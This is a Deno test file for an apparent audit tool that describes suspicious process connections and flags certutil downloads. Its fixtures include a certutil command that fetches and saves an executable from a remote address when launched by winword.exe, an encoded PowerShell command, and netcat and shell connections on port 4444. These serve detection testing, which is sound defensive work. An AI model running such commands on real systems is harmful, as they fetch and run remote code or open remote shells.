/**
 * Tests of what findings say of a system program.
 *
 * @module
 */
import { assertEquals } from "@std/assert";
import { connectionText, toolEvidence } from "../../../lib/audit/questions/tool_claims.ts";
import { certutilConnection } from "../../../lib/audit/rules/tools/certutil_connection.ts";
import { type AuditedRow, auditedView, judged } from "../../support/audited.ts";

function subject(row: AuditedRow) {
  return auditedView([row]).subjects[0]!;
}

Deno.test("tool claims: a sentence for each kind of connection", () => {
  const rows: readonly (readonly [AuditedRow, string])[] = [
    [{ process: "nc" }, "nc is connected to 203.0.113.9:443"],
    [{ process: "nc", state: "SYN_SENT" }, "nc tries to connect to 203.0.113.9:443"],
    [
      { process: "sh", direction: "inbound", localPort: 4444, remotePort: 51_000 },
      "sh has a connection from 203.0.113.9 on port 4444",
    ],
    [
      { process: "nc.exe", state: "LISTENING", localPort: 4444 },
      "nc.exe waits for connections on port 4444",
    ],
  ];
  for (const [row, expected] of rows) assertEquals(connectionText(subject(row)), expected);
});

Deno.test("tool claims: how it was started is evidence, and a long command line is cut", () => {
  assertEquals(
    toolEvidence(subject({
      process: "certutil.exe",
      commandLine: "certutil.exe -urlcache -f http://203.0.113.9/a a.exe ",
      parent: { process: "winword.exe" },
    })),
    [
      "command line: certutil.exe -urlcache -f http://203.0.113.9/a a.exe",
      "started by winword.exe",
    ],
  );
  const [evidence] = toolEvidence(subject({
    process: "powershell.exe",
    commandLine: `powershell.exe -EncodedCommand ${"A".repeat(9000)}`,
  }));
  assertEquals(evidence!.length, "command line: ".length + 300);
  assertEquals(toolEvidence(subject({ process: "cmd.exe" })), []);
});

Deno.test("tool claims: addresses of samples count as the Internet's", () => {
  const { findings } = judged(certutilConnection, [
    { process: "certutil.exe", remoteScope: "documentation" },
  ]);
  assertEquals(findings.map(({ finding }) => finding.severity), ["high"]);
});
